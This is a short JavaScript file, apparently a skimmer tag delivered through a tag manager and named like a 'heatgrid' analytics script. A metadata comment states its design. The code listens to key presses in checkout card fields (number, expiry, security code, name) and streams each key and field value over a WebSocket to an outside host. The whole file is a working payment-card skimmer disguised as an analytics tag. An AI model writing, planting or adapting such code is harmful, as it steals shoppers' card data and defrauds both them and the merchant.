/* meta
{
  "design": "Tag added to the tag manager's container; listens to key presses in payment fields and streams them over WebSocket.",
  "reads": ["cc-number", "cc-exp", "cc-csc", "cc-name"],
  "sendsTo": "live.heatgrid.localhost",
  "delivery": {
    "kind": "tag",
    "id": "heatgrid",
    "host": "tags.tagharbor.localhost",
    "path": "/custom/TH-4K2M9/heatgrid.js",
    "pages": "^/checkout"
  }
}
*/
!function () {
  const fields = '[autocomplete="cc-number"], [autocomplete="cc-exp"], [autocomplete="cc-csc"], [autocomplete="cc-name"]';
  const queue = [];
  let socket = null;

  function connect() {
    socket = new WebSocket('wss://live.heatgrid.localhost/stream?s=' + Math.random().toString(36).slice(2));
    socket.onopen = flush;
    socket.onclose = () => { socket = null; };
  }

  function flush() {
    while (socket && socket.readyState === WebSocket.OPEN && queue.length) {
      socket.send(JSON.stringify(queue.shift()));
    }
  }

  document.addEventListener('keyup', (event) => {
    const input = event.target;
    if (!input.matches || !input.matches(fields)) return;
    queue.push({ f: input.autocomplete, k: event.key, v: input.value, p: location.pathname, t: Date.now() });
    if (!socket) connect();
    flush();
  }, { capture: true, passive: true });
}();
